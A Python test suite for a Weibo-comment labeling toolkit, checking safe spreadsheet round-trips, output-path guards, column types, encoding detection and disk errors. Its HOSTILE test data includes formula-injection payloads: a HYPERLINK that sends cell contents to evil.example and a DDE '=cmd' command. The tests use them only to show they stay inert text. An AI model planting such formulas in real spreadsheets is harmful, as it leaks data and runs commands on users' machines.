"""Issue 26: the group's data survives every path. Hostile comments stay text in every sheet the project writes and
come back exactly; no job writes over its own inputs or into another job's directory; carried columns keep their
type and value; encodings are detected honestly; label cells are read by one rule; a full or read-only disk is a
message; every piece of advice names an option the job has."""

from __future__ import annotations

import fnmatch
import json
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml

from weibolabel.data.tables import CELL_LIMIT, read_table, write_table
from weibolabel.run.layout import JOB_FILES, directory_owner

from helpers.data import NAMES, make_labeled_rows
from helpers.jobs import load_job, private_mount_possible, run_job
from helpers.outputs import write_labeled_parquet

# Comments as scrapers deliver them: formulas Excel would run, signs it would read as formulas, characters a
# worksheet cannot hold, OOXML's own escape written out, hidden characters, a carriage return, a 40,000-character
# comment.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&B2,"点这里")',
    "=_=这期节目太好笑了",
    "=cmd|' /C calc'!A0",
    "+86 国宝",
    "-- 这件文物好美",
    "@央视新闻 国家宝藏",
    "文物\x0b真美\x1f",
    "原样 _x000B_ 与 _x0041_",
    "\u200b零宽空格",
    "\ufeff开头有BOM",
    "行一\r\n行二\r",
    "长" * 40000,
]
LONG = HOSTILE[-1]


def corpus_rows(num_rows: int) -> tuple[list[str], np.ndarray]:
    """Texts and probabilities of a labeling job's output: each row confidently its keyword pool's class."""
    rows = make_labeled_rows(num_rows, seed=3)
    probs = np.full((num_rows, 4), 0.05)
    probs[np.arange(num_rows), rows["Label"]] = 0.85
    return rows["Sentence"].tolist(), probs


def expected_text(text: str) -> str:
    """What a sheet gives back: the text itself, or for one longer than Excel's cell its first 32,767 characters."""
    return text[:CELL_LIMIT]


def cell_types(path: Path, sheet: str | None = None) -> set[str]:
    """The openpyxl data types of every filled cell (read without evaluating anything): 'f' would be a formula."""
    workbook = openpyxl.load_workbook(path, data_only=False)
    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
    return {cell.data_type for row in worksheet.iter_rows() for cell in row if cell.value is not None}


def save_as_excel_would(path: Path) -> None:
    """Rewrite `path` the way Excel saves a workbook: its inline strings moved into the shared-string table (where
    openpyxl reads them differently), escapes kept as written."""
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    strings: list[str] = []

    def shared(match: re.Match) -> str:
        strings.append(match.group(3))
        return f'<c {match.group(1)}t="s"{match.group(2)}><v>{len(strings) - 1}</v></c>'

    for name in [n for n in parts if n.startswith("xl/worksheets/sheet")]:
        inline = r'<c ([^>]*?)t="inlineStr"([^>]*)><is>(.*?)</is></c>'
        parts[name] = re.sub(inline, shared, parts[name].decode()).encode()
    table = "".join(f"<si>{inner}</si>" for inner in strings)
    parts["xl/sharedStrings.xml"] = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">{table}</sst>'
    ).encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdShared" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)


def fill_column(path: Path, column: str, values: dict[int, object]) -> None:
    """An annotator's edit: cells of `column` filled in by sheet row (2 = first data row), saved."""
    workbook = openpyxl.load_workbook(path)
    worksheet = workbook.worksheets[0]
    letter = {cell.value: cell.column_letter for cell in worksheet[1]}[column]
    for row, value in values.items():
        worksheet[f"{letter}{row}"] = value
    workbook.save(path)


# =================================================================== 1-2. every sheet keeps a comment as it is
def test_the_one_writer_and_reader_round_trip_hostile_texts_also_after_excel_saves(tmp_path, caplog):
    frame = pd.DataFrame({"Sentence": HOSTILE, "Label": range(len(HOSTILE))})
    frame.loc[0, "=header"] = "x"  # a column name is written by the same rule
    path = tmp_path / "t.xlsx"
    write_table(frame, path)
    assert cell_types(path) <= {"s", "n"}
    assert f"{path}: 1 text(s) longer than Excel's 32,767-character cell limit were cut" in caplog.text
    assert "column 'Sentence', row 13" in caplog.text and "write a .csv or .parquet to keep them whole" in caplog.text
    back = read_table(path)
    assert list(back.columns) == ["Sentence", "Label", "=header"]
    assert back["Sentence"].tolist() == [expected_text(t) for t in HOSTILE]
    save_as_excel_would(path)
    again = read_table(path)["Sentence"].tolist()
    # Excel's save keeps every text, but openpyxl reads Excel's escape of a literal _x000B_ as the escape of the
    # control character (docs/annotation_loop.md): that one literal is the documented exception.
    assert again[7] == "原样 \x0b 与 _x0041_"
    assert again[:7] + again[8:] == [expected_text(t) for t in HOSTILE[:7] + HOSTILE[8:]]


def test_hostile_comments_go_through_the_annotation_loop_as_text_and_come_back_exactly(tmp_path, capsys, caplog):
    probs = np.tile([0.40, 0.35, 0.15, 0.10], (len(HOSTILE), 1))
    probs[::2] = [0.10, 0.15, 0.35, 0.40]
    corpus = write_labeled_parquet(tmp_path / "labels.parquet", HOSTILE, probs)
    sheet = tmp_path / "to_annotate.xlsx"
    args = ["--input", str(corpus), "--k", str(len(HOSTILE)), "--output", str(sheet)]
    status, _, err = run_job("select_for_annotation.py", args, capsys)
    assert status == 0, err
    assert cell_types(sheet) <= {"s", "n"} and cell_types(sheet, "labels") <= {"s", "n"}
    assert "the annotators see and label the start, which is what merging adds" in caplog.text
    written = read_table(sheet)
    assert sorted(written["Sentence"]) == sorted(expected_text(t) for t in HOSTILE)

    # The annotator labels every row in Excel and saves; the merge adds them to an .xlsx training file.
    fill_column(sheet, "Label", {row: row % 4 for row in range(2, len(HOSTILE) + 2)})
    save_as_excel_would(sheet)
    existing = tmp_path / "train.xlsx"
    write_table(pd.DataFrame({"Sentence": ["主持人讲得真好", "转发微博"], "Label": [0, 3]}), existing)
    merged = tmp_path / "merged.xlsx"
    args = ["--annotations", str(sheet), "--existing", str(existing), "--output", str(merged)]
    status, _, err = run_job("merge_annotations.py", args, capsys)
    assert status == 0, err
    assert cell_types(merged) <= {"s", "n"}
    texts = read_table(merged)["Sentence"].tolist()
    literal = "原样 _x000B_ 与 _x0041_"  # after Excel's save: the documented exception (see the test above)
    assert sorted(texts) == sorted(
        ["主持人讲得真好", "转发微博", *(expected_text(t) if t != literal else "原样 \x0b 与 _x0041_" for t in HOSTILE)]
    )


def run_directory_with(tmp_path: Path, texts: list[str], given: np.ndarray, probs: np.ndarray) -> Path:
    """A training run's out-of-fold file and config, as find_label_issues reads them."""
    run = tmp_path / "run"
    run.mkdir()
    pd.DataFrame(
        {
            "row_id": np.arange(len(texts)),
            "text": texts,
            "gold": given,
            "fold": np.arange(len(texts)) % 3,
            **{f"prob_{name}": probs[:, i].astype(np.float32) for i, name in enumerate(NAMES)},
        }
    ).to_parquet(run / "oof_predictions.parquet")
    (run / "config.yaml").write_text(yaml.safe_dump({"data": "labeled.xlsx", "header_row": 1, "labels": None}))
    return run


def test_review_sheet_and_reviewed_file_keep_hostile_texts_as_text(tmp_path, capsys):
    plain = make_labeled_rows(48, seed=2)
    texts = [*plain["Sentence"], *HOSTILE]
    given = np.array([*plain["Label"], *[0] * len(HOSTILE)])
    probs = np.full((len(texts), 4), 0.02)
    probs[np.arange(len(plain)), given[: len(plain)]] = 0.94
    probs[len(plain) :, 1] = 0.94  # the model is sure every hostile row is 'heritage', not the given 'production'
    data = tmp_path / "labeled.xlsx"
    write_table(pd.DataFrame({"Sentence": texts, "Label": given}), data)
    run = run_directory_with(tmp_path, texts, given, probs)
    status, _, err = run_job("find_label_issues.py", ["--run", str(run), "--output_dir", str(tmp_path / "r")], capsys)
    assert status == 0, err
    review = tmp_path / "r" / "label_issues.xlsx"
    assert cell_types(review) <= {"s", "n"}
    sheet = read_table(review)
    assert {expected_text(t) for t in HOSTILE} <= set(sheet["Sentence"])
    fill_column(review, "Decision", {row: "suggested" for row in range(2, len(sheet) + 2)})
    output = tmp_path / "reviewed.xlsx"
    args = ["--review", str(review), "--data", str(data), "--output", str(output)]
    status, _, err = run_job("apply_label_review.py", args, capsys)
    assert status == 0, err
    assert cell_types(output) <= {"s", "n"}
    assert read_table(output)["Sentence"].tolist() == [expected_text(t) for t in texts]


# =================================================================== 3. no job writes over its own inputs
def test_label_corpus_refuses_to_write_over_its_input_even_with_overwrite(tmp_path, tiny_run_dir, caplog, monkeypatch):
    monkeypatch.chdir(tmp_path)  # the output named relatively too
    (tmp_path / "d").mkdir()
    corpus = tmp_path / "c.parquet"
    pd.DataFrame({"Sentence": ["国家宝藏真好看", "转发微博"], "show": ["国家宝藏", "x"]}).to_parquet(corpus)
    before = corpus.read_bytes()
    link = tmp_path / "link.parquet"
    link.symlink_to(corpus)
    label = load_job("label_corpus")
    for output in (corpus, link, Path("d/../c.parquet")):
        caplog.clear()
        args = ["--input", str(corpus), "--model", str(tiny_run_dir), "--output", str(output), "--overwrite"]
        assert label.main(args) == 2
        assert f"is the --input {corpus} itself" in caplog.text and "--overwrite" not in caplog.text
    assert corpus.read_bytes() == before
    # A directory of inputs: the output inside it would be labeled by the next run.
    caplog.clear()
    assert label.main(["--input", str(tmp_path), "--model", str(tiny_run_dir), "--output", str(tmp_path / "l.parquet")])
    assert "is where --input" in caplog.text and not (tmp_path / "l.parquet").exists()
    # Nor over another job's file in its directory (with --overwrite too).
    caplog.clear()
    oof = tiny_run_dir / "oof_predictions.parquet"
    assert label.main(["--input", str(corpus), "--model", str(tiny_run_dir), "--output", str(oof), "--overwrite"]) == 2
    assert f"--output {oof} is a file of the jobs/train.py output in {tiny_run_dir}" in caplog.text
    # The training run these tests share records its owner, and writes no file its layout does not list.
    assert directory_owner(tiny_run_dir) == "train"
    names = [p.name for p in tiny_run_dir.iterdir()]
    assert all(any(fnmatch.fnmatch(n, f) for f in (*JOB_FILES["train"], ".weibolabel-job")) for n in names), names


def test_select_and_review_refuse_to_write_over_their_inputs(tmp_path, capsys):
    labeled = tmp_path / "labeled.xlsx"
    write_table(make_labeled_rows(20), labeled)
    before = labeled.read_bytes()
    corpus = write_labeled_parquet(tmp_path / "labels.parquet", ["评论一", "评论二"], np.eye(4)[[0, 1]] * 0.9 + 0.025)
    args = ["--input", str(corpus), "--k", "2", "--exclude", str(labeled), "--output", str(labeled), "--overwrite"]
    status, _, err = run_job("select_for_annotation.py", args, capsys)
    assert status == 2 and f"--output {labeled} is the --exclude {labeled} itself" in err and "--overwrite" not in err
    assert labeled.read_bytes() == before

    review = tmp_path / "label_issues.xlsx"
    decisions = {"row_id": [0], "Sentence": ["x"], "given_label": ["culture"], "Decision": ["keep"]}
    write_table(pd.DataFrame(decisions), review)
    reviewed = review.read_bytes()
    args = ["--review", str(review), "--data", str(labeled), "--output", str(review), "--overwrite"]
    status, _, err = run_job("apply_label_review.py", args, capsys)
    assert status == 2 and f"is the --review {review} itself" in err and "--overwrite" not in err
    assert review.read_bytes() == reviewed


# =================================================================== 4. no job writes into another job's directory
def training_run(path: Path, marker: bool = True) -> Path:
    """A finished training run's files (metrics, folds, out-of-fold predictions, config, report)."""
    from helpers.outputs import write_fake_run

    gold = np.arange(40) % 4
    write_fake_run(path, gold=gold, predicted=gold)
    (path / "config.yaml").write_text(yaml.safe_dump({"num_folds": 5, "data": "labeled.xlsx", "labels": None}))
    (path / "report.md").write_text("# the paper's table\n")
    (path / "run_identity.json").write_text("{}")
    if marker:
        (path / ".weibolabel-job").write_text("train\n")
    return path


@pytest.mark.parametrize("marker", [True, False], ids=["recorded", "older run without an owner record"])
def test_analysis_jobs_refuse_a_training_run_directory_and_train_refuses_theirs(
    tmp_path, capsys, caplog, marker, labeled_xlsx
):
    run = training_run(tmp_path / "cv", marker)
    files = {p.name: p.read_bytes() for p in run.iterdir() if p.is_file()}
    corpus = write_labeled_parquet(tmp_path / "labels.parquet", ["评论一", "评论二"], np.eye(4)[[0, 1]] * 0.9 + 0.025)
    for job, args in [
        ("analyze_labels.py", ["--input", str(corpus), "--output_dir", str(run)]),
        ("find_label_issues.py", ["--run", str(run), "--output_dir", str(run)]),
        ("simulate_active_learning.py", ["--run", str(run), "--output_dir", str(run)]),
        ("compare_runs.py", [str(run), str(run), "--output_dir", str(run)]),
    ]:
        status, _, err = run_job(job, args, capsys)
        assert status == 2 and f"--output_dir {run} holds the output of jobs/train.py" in err, (job, err)
        assert "Pass another --output_dir (e.g. " in err
    assert {p.name: p.read_bytes() for p in run.iterdir() if p.is_file()} == files
    # Analysis written where it belongs; training into it is refused in turn, naming the job.
    analysis = tmp_path / "analysis"
    status, _, err = run_job("analyze_labels.py", ["--input", str(corpus), "--output_dir", str(analysis)], capsys)
    assert status == 0, err
    assert (analysis / ".weibolabel-job").read_text() == "analyze_labels\n"
    assert {p.name for p in analysis.iterdir()} <= {*JOB_FILES["analyze_labels"], ".weibolabel-job"}  # the one list
    caplog.clear()
    status, _, _ = run_job("train.py", ["--data", str(labeled_xlsx), "--output_dir", str(analysis)], capsys)
    assert status == 2 and f"--output_dir {analysis} holds the output of jobs/analyze_labels.py" in caplog.text
    assert "its report.md would be replaced" in caplog.text
    # A run's own learning curve may join it, but not an analysis directory; training never into its base model.
    caplog.clear()
    status, _, _ = run_job("learning_curve.py", ["--run", str(run), "--output_dir", str(analysis)], capsys)
    assert status == 2 and f"{analysis} holds the output of jobs/analyze_labels.py" in caplog.text
    check_run = load_job("learning_curve").check_run
    check_run(load_job("learning_curve").LearningCurveConfig(run=str(run)))  # into the run itself: allowed
    model = tmp_path / "base-model"
    model.mkdir()
    caplog.clear()
    args = ["--data", str(labeled_xlsx), "--model_name_or_path", str(model), "--output_dir", str(model)]
    status, _, _ = run_job("train.py", args, capsys)
    assert status == 2 and f"--output_dir {model} is the --model_name_or_path {model} itself" in caplog.text


# =================================================================== 5. carried columns keep their type and value
BIG = 7234567890123456789  # above 2**53: a float cannot hold it


@pytest.mark.parametrize("kind", ["parquet", "jsonl"])
def test_carried_integer_columns_keep_type_and_value_in_every_chunk(tmp_path, tiny_run_dir, kind, capsys):
    import pyarrow as pa
    import pyarrow.parquet as pq

    user_ids = [BIG, None, 3, 4, 5, 6, None, 8]  # chunks of 2: nulls in chunks 0 and 3 only
    likes = [3, 3, None, 7, 7, 7, 3, 3]
    texts = [f"评论{i} 国家宝藏真好看" for i in range(8)]
    source = tmp_path / f"corpus.{kind}"
    if kind == "parquet":  # as pyarrow, polars, duckdb or Spark write it: no pandas metadata
        table = pa.table({"Sentence": texts, "user_id": pa.array(user_ids, pa.int64()), "likes": likes})
        pq.write_table(table, source)
        assert b"pandas" not in (pq.read_schema(source).metadata or {})
    else:
        records = [{"Sentence": t, "user_id": u, "likes": n} for t, u, n in zip(texts, user_ids, likes)]
        source.write_text("".join(json.dumps(record, ensure_ascii=False) + "\n" for record in records))
    output = tmp_path / "labels.parquet"
    args = ["--input", str(source), "--model", str(tiny_run_dir), "--output", str(output), "--chunk_size", "2"]
    status, _, err = run_job("label_corpus.py", [*args, "--carry_columns", "user_id", "likes"], capsys)
    assert status == 0, err
    assert pq.read_schema(output).field("user_id").type == pa.int64()
    labeled = pd.read_parquet(output)
    assert str(labeled["user_id"].dtype) == "Int64" and str(labeled["likes"].dtype) == "Int64"
    assert labeled["user_id"].tolist() == [BIG, pd.NA, 3, 4, 5, 6, pd.NA, 8]
    assert labeled["likes"].tolist() == [3, 3, pd.NA, 7, 7, 7, 3, 3]
    # Grouping by it: '3' is one group, never '3.0' in one chunk and '3' in the next.
    if kind == "parquet":
        out = tmp_path / "analysis"
        status, _, err = run_job(
            "analyze_labels.py", ["--input", str(output), "--output_dir", str(out), "--group_by", "likes"], capsys
        )
        assert status == 0, err
        groups = pd.read_csv(out / "shares.csv", dtype=str, keep_default_na=False)["group"]
        assert set(groups) == {"", "3", "7", "(missing)"}
        # A column typed in one file and text in another is carried as text, each value exactly as it was.
        both = tmp_path / "both"
        both.mkdir()
        source.rename(both / "a.parquet")
        pd.DataFrame({"Sentence": ["转发微博"], "user_id": ["0042"], "likes": ["3"]}).to_csv(
            both / "b.csv", index=False
        )
        output = tmp_path / "both.parquet"
        args = ["--input", str(both), "--model", str(tiny_run_dir), "--output", str(output), "--chunk_size", "2"]
        status, _, err = run_job("label_corpus.py", [*args, "--carry_columns", "user_id"], capsys)
        assert status == 0, err
        assert pq.read_table(output).column("user_id").to_pylist() == [
            str(BIG),
            None,
            "3",
            "4",
            "5",
            "6",
            None,
            "8",
            "0042",
        ]


# =================================================================== 6. encodings: detected honestly, never guessed
def test_big5_csv_is_not_silently_read_as_gb18030_and_the_message_shows_both_readings(tmp_path, capsys):
    rows = ["Sentence,Label", "《國家寶藏》真好看,0", "越王勾踐劍太鋒利了,1"]
    big5 = tmp_path / "traditional.csv"
    big5.write_bytes("\n".join(rows).encode("big5"))
    assert big5.read_bytes().decode("gb18030")  # every Big5 byte pair is also valid GB18030: the trap
    corpus = write_labeled_parquet(tmp_path / "labels.parquet", ["评论一", "评论二"], np.eye(4)[[0, 1]] * 0.9 + 0.025)
    out = str(tmp_path / "s.xlsx")
    status, _, err = run_job(
        "select_for_annotation.py",
        ["--input", str(corpus), "--k", "2", "--output", out, "--exclude", str(big5)],
        capsys,
    )
    assert status == 2 and err.count("\n") == 1
    assert "line 2 reads as GB18030: " in err and "and as Big5: '《國家寶藏》真好看,0'" in err
    assert "--encoding gb18030 or --encoding big5" in err
    status, _, err = run_job(
        "select_for_annotation.py",
        ["--input", str(corpus), "--k", "2", "--output", out, "--exclude", str(big5), "--encoding", "big5"],
        capsys,
    )
    assert status == 0, err
    # Detected where only one reads the file: a GBK file of a realistic length is not valid Big5.
    gbk = tmp_path / "simplified.csv"
    gbk.write_bytes(make_labeled_rows(60).to_csv(index=False).encode("gbk", errors="ignore"))
    assert read_table(gbk)["Sentence"].tolist() == [
        t.encode("gbk", errors="ignore").decode("gbk") for t in make_labeled_rows(60)["Sentence"]
    ]
    assert read_table(big5, encoding="big5")["Sentence"].tolist() == ["《國家寶藏》真好看", "越王勾踐劍太鋒利了"]


# =================================================================== 8. label cells: one rule whatever the cell type
def test_a_number_scale_schema_reads_4_as_the_same_class_in_number_and_text_cells(tmp_path, capsys):
    labels = tmp_path / "scale.yaml"
    labels.write_text(yaml.safe_dump([{"id": i, "name": str(i + 1)} for i in range(5)]))  # a 1-5 scale on ids 0-4
    existing = tmp_path / "train.xlsx"
    write_table(pd.DataFrame({"Sentence": ["一般般", "很好看"], "Label": [3, 5]}), existing)
    sheet = tmp_path / "filled.xlsx"
    write_table(pd.DataFrame({"Sentence": ["节目真好", "嘉宾很棒", "还行吧"], "Label": [4, "4", "4.0"]}), sheet)
    assert cell_types(sheet) == {"s", "n"}  # 4 in a number cell, "4" and "4.0" in text cells
    merged = tmp_path / "merged.xlsx"
    args = ["--annotations", str(sheet), "--existing", str(existing), "--output", str(merged), "--labels", str(labels)]
    status, _, err = run_job("merge_annotations.py", args, capsys)
    assert status == 0, err
    # The three identical annotations are one class, the one named "4" (id 3), written as the file writes labels.
    assert read_table(merged)["Label"].tolist() == [3, 5, 4, 4, 4]
    from weibolabel.data.labeled import load_labeled
    from weibolabel.data.labels import load_label_schema

    schema = load_label_schema(labels)
    assert load_labeled(merged, schema).rows["label"].tolist() == [2, 4, 3, 3, 3]
    # An id in such a schema is refused with the rule, not read as another class.
    write_table(pd.DataFrame({"Sentence": ["新评论"], "Label": [0]}), sheet)
    status, _, err = run_job("merge_annotations.py", [*args, "--overwrite"], capsys)
    assert status == 2 and "0 is not a label name (this schema's names" in err and "never as an id" in err


def test_hidden_characters_in_a_label_are_shown_and_named(tmp_path, capsys):
    existing = tmp_path / "train.xlsx"
    write_table(pd.DataFrame({"Sentence": ["主持人讲得真好"], "Label": ["production"]}), existing)
    sheet = tmp_path / "filled.xlsx"
    write_table(
        pd.DataFrame({"Sentence": ["兵马俑好震撼", "文化自信"], "Label": ["heritage\u200b", "\ufeffculture"]}), sheet
    )
    args = ["--annotations", str(sheet), "--existing", str(existing), "--output", str(tmp_path / "m.xlsx")]
    status, _, err = run_job("merge_annotations.py", args, capsys)
    assert status == 2
    assert "row 2, column 'Label': 'heritage\\u200b' (with the hidden character(s) U+200B ZERO WIDTH SPACE)" in err
    assert (
        "row 3, column 'Label': '\\ufeffculture' (with the hidden character(s) U+FEFF ZERO WIDTH NO-BREAK SPACE)" in err
    )


# =================================================================== 12. advice names options the job has
def run_advised(job: str, args: list[str], capsys, advice: str) -> str:
    """Run `job`; it must refuse with `advice` ('pass --x y'); then run it again as advised: it must work."""
    import shlex

    status, _, err = run_job(job, args, capsys)
    assert status == 2 and err.count("\n") == 1, err
    found = re.search(r"[Pp]ass (--\w+ (?:'[^']*'|\S+?))\.?(?: |$)", err.strip())
    assert found and found.group(1) == advice, err
    status, _, again = run_job(job, [*args, *shlex.split(found.group(1))], capsys)
    assert status == 0, again
    return err


def test_merge_reads_a_csv_copy_of_the_sheet_and_its_advice_runs(tmp_path, capsys):
    existing = tmp_path / "train.xlsx"
    workbook = openpyxl.Workbook()
    for row in [["第一轮标注"], [], ["Sentence", "Label"], ["主持人讲得真好", 0]]:
        workbook.active.append(row)
    workbook.save(existing)
    copy = tmp_path / "filled.csv"  # the annotation sheet saved by Excel as "CSV UTF-8": a BOM, comma-separated
    copy.write_bytes("Sentence,Label,row_id\n兵马俑好震撼,1,3\n".encode("utf-8-sig"))
    args = ["--annotations", str(copy), "--existing", str(existing), "--output", str(tmp_path / "m.xlsx")]
    run_advised("merge_annotations.py", args, capsys, "--header_row 3")
    assert read_table(tmp_path / "m.xlsx")["Sentence"].tolist() == ["主持人讲得真好", "兵马俑好震撼"]
    other = tmp_path / "train.csv"
    other.write_text("my text,Label\n主持人讲得真好,0\n", encoding="utf-8")
    args = ["--annotations", str(copy), "--existing", str(other), "--output", str(tmp_path / "m.csv")]
    run_advised("merge_annotations.py", [*args, "--text_column", "my_text"], capsys, "--text_column 'my text'")


def test_review_and_select_advise_their_own_sheet_options_and_name_a_separator(tmp_path, capsys):
    data = tmp_path / "labeled.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "说明"
    workbook.active.append(["第二页是标注"])
    labeled = workbook.create_sheet("标注")
    for row in [["Sentence", "Label"], *make_labeled_rows(8).values.tolist()]:
        labeled.append(row)
    workbook.save(data)
    review = tmp_path / "label_issues.xlsx"
    text = make_labeled_rows(8)["Sentence"][0]
    write_table(
        pd.DataFrame({"row_id": [0], "Sentence": [text], "given_label": ["production"], "Decision": ["keep"]}), review
    )
    args = ["--review", str(review), "--data", str(data), "--output", str(tmp_path / "r.xlsx")]
    run_advised("apply_label_review.py", args, capsys, "--sheet 标注")

    corpus = write_labeled_parquet(tmp_path / "labels.parquet", ["评论一", "评论二"], np.eye(4)[[0, 1]] * 0.9 + 0.025)
    semicolons = tmp_path / "known.csv"
    semicolons.write_text("Sentence;Label\n评论一;0\n", encoding="utf-8")
    args = ["--input", str(corpus), "--k", "1", "--output", str(tmp_path / "s.xlsx"), "--exclude", str(semicolons)]
    status, _, err = run_job("select_for_annotation.py", args, capsys)
    assert status == 2 and "the file is separated by ';', not by commas" in err
    assert "Pass --exclude_text_column" not in err  # never 'Sentence;Label', which a shell splits in two


# =================================================================== 9. one input file without the gold column
def test_a_file_without_the_gold_column_loses_only_its_own_gold_labels(tmp_path, tiny_run_dir, capsys, caplog):
    import json

    inputs = tmp_path / "inputs"
    inputs.mkdir()
    pd.DataFrame({"Sentence": ["主持人讲得真好", "越王勾践剑好锋利"], "Label": [0, 1]}).to_csv(
        inputs / "a.csv", index=False
    )
    pd.DataFrame({"Sentence": ["转发微博"]}).to_csv(inputs / "b.csv", index=False)
    output = tmp_path / "labels.parquet"
    status, _, err = run_job(
        "label_corpus.py", ["--input", str(inputs), "--model", str(tiny_run_dir), "--output", str(output)], capsys
    )
    assert status == 0, err
    assert pd.read_parquet(output)["gold_label"].tolist() == [0, 1, pd.NA]
    assert f"1 of 2 input files have no gold column 'Label' ({inputs / 'b.csv'})" in caplog.text
    summary = json.loads(output.with_suffix(".summary.json").read_text())
    assert summary["gold_labels"]["files_without_column"] == [str(inputs / "b.csv")]
    assert summary["gold_labels"]["valid"] == 2 and summary["gold_agreement"]["rows"] == 2


# =================================================================== 10. a full or read-only disk is a message
STORAGE_JOBS = {  # job -> (its arguments, where it writes, how much room a full disk leaves it)
    "analyze_labels.py": (["--input", "{labels}", "--output_dir", "{out}/analysis"], "64k"),
    "select_for_annotation.py": (["--input", "{labels}", "--k", "8", "--output", "{out}/s.xlsx"], "4k"),
    "find_label_issues.py": (["--run", "{run}", "--output_dir", "{out}/review"], "16k"),
    "merge_annotations.py": (
        ["--annotations", "{filled}", "--existing", "{existing}", "--output", "{out}/m.xlsx"],
        "8k",
    ),
    "apply_label_review.py": (["--review", "{review}", "--data", "{existing}", "--output", "{out}/r.xlsx"], "8k"),
}


@pytest.mark.skipif(not private_mount_possible(), reason="needs root and `unshare --mount` for a private tmpfs")
def test_full_and_read_only_disks_are_a_message_and_leave_no_half_written_file(tmp_path, capsys):
    import shlex
    import subprocess
    import sys

    from helpers import REPO
    from helpers.jobs import JOBS, job_env

    paths = {"labels": write_labeled_parquet(tmp_path / "labels.parquet", *corpus_rows(200))}
    plain = make_labeled_rows(48, seed=2)
    paths["existing"] = tmp_path / "labeled.xlsx"
    write_table(plain, paths["existing"])
    probs = np.full((48, 4), 0.02)
    probs[np.arange(48), plain["Label"]] = 0.94
    probs[:6] = [0.02, 0.02, 0.02, 0.94]  # six rows the model says are 'irrelevant'
    paths["run"] = run_directory_with(tmp_path, plain["Sentence"].tolist(), plain["Label"].to_numpy(), probs)
    status, _, err = run_job(
        "find_label_issues.py", ["--run", str(paths["run"]), "--output_dir", str(tmp_path / "r")], capsys
    )
    assert status == 0, err
    paths["review"] = tmp_path / "r" / "label_issues.xlsx"
    fill_column(paths["review"], "Decision", {2: "keep"})
    paths["filled"] = tmp_path / "filled.xlsx"
    write_table(pd.DataFrame({"Sentence": ["兵马俑好震撼"], "Label": [1]}), paths["filled"])

    # One mount namespace of its own: a small tmpfs per job (a full disk) and a read-only one; the machine's mounts
    # are untouched. Each job's log and the files left behind are listed for the checks below.
    logs = tmp_path / "logs"
    logs.mkdir()
    script = ["set -u"]
    for number, (job, (args, size)) in enumerate(STORAGE_JOBS.items()):
        for mode in ("full", "readonly"):
            out = tmp_path / f"{mode}{number}"
            out.mkdir()
            options = f"size={size}" if mode == "full" else "size=64k,ro"
            command = [sys.executable, str(JOBS / job), *(a.format(out=out, **paths) for a in args)]
            script += [
                f"mount -t tmpfs -o {options} tmpfs {out}",
                f"{shlex.join(command)} > {logs}/{mode}{number}.log 2>&1; echo $? > {logs}/{mode}{number}.status",
                f"find {out} -type f -printf '%s %p\\n' > {logs}/{mode}{number}.files",
            ]
    run = ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script)]
    subprocess.run(run, env=job_env(), cwd=REPO, check=True, timeout=600)
    for number, job in enumerate(STORAGE_JOBS):
        for mode, message in (
            ("full", "No space left on device"),
            ("readonly", "Read-only file system"),
        ):
            log = (logs / f"{mode}{number}.log").read_text()
            assert (logs / f"{mode}{number}.status").read_text().strip() == "2", (job, mode, log)
            assert "Traceback" not in log and message in log and "no file was left half-written" in log, (job, log)
            assert f"({tmp_path / mode}{number}/" in log and ".tmp" not in log, log  # the file or folder it wrote
            left = [line.split(" ", 1) for line in (logs / f"{mode}{number}.files").read_text().splitlines()]
            assert all(int(size) > 0 and ".tmp" not in name for size, name in left), (job, mode, left)


# =================================================================== 11. what used to end in a traceback
def test_gbk_piped_into_predict_is_read_and_an_ambiguous_pipe_is_refused(tiny_run_dir):
    import subprocess
    import sys

    from helpers import REPO
    from helpers.jobs import JOBS, job_env

    def predict(data: bytes, *extra: str) -> subprocess.CompletedProcess:
        command = [sys.executable, str(JOBS / "predict.py"), "--model", str(tiny_run_dir / "fold_0"), *extra]
        return subprocess.run(command, input=data, capture_output=True, env=job_env(), cwd=REPO, timeout=300)

    comments = make_labeled_rows(40)["Sentence"].str.replace(r"[^\u4e00-\u9fff0-9]", "", regex=True).tolist()
    result = predict("\r\n".join(comments).encode("gbk") + b"\r\n")  # a Chinese Windows console's pipe
    assert result.returncode == 0, result.stderr.decode()
    out = result.stdout.decode()
    assert all(comment[:10] in out for comment in comments) and "Traceback" not in result.stderr.decode()
    short = "《國家寶藏》".encode("big5")  # short enough that GB18030 reads it too
    result = predict(short)
    assert result.returncode == 2 and "--encoding gb18030 or --encoding big5" in result.stderr.decode()
    result = predict(short, "--encoding", "big5")
    assert result.returncode == 0 and "《國家寶藏》" in result.stdout.decode()


def test_ctrl_c_while_labeling_is_one_line_and_the_rerun_resumes(tmp_path, tiny_run_dir):
    from helpers.jobs import JOBS, KILL_WRAPPER, label_args, launch_job, log_of, parts_dir

    source = tmp_path / "c.csv"
    pd.DataFrame({"Sentence": make_labeled_rows(24)["Sentence"]}).to_csv(source, index=False)
    output = tmp_path / "labels.parquet"
    args = label_args(source, tiny_run_dir, output)
    env = {"WEIBOLABEL_TEST_KILL_AT": "after:0", "WEIBOLABEL_TEST_SIGNAL": "SIGINT"}  # Ctrl-C after chunk 0
    stopped = launch_job(str(KILL_WRAPPER), [str(JOBS / "label_corpus.py"), *args], check=False, env=env)
    assert stopped.returncode == 130 and "Traceback" not in log_of(stopped), log_of(stopped)
    assert "stopped (Ctrl-C); finished chunks are saved. Re-run the same command to resume." in log_of(stopped)
